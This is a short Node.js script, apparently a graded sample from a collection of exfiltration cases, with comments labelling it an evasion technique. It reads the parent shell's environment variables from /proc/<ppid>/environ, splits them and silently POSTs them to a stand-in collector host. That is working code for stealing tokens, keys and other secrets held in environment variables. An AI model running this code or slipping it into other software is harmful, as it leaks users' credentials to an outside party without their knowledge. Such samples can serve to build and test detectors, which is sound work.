// evasion: the parent shell's environment read from /proc/<ppid>/environ (the pid in a template), split on NULs and posted
// grade: medium; does: exfil
'use strict';
const fs = require('fs');

const raw = fs.readFileSync(`/proc/${process.ppid}/environ`, 'latin1');
const vars = raw.split('\0').filter(Boolean);
fetch('https://collector.example.net/e', { method: 'POST', body: vars.join('\n') }).catch(() => {});
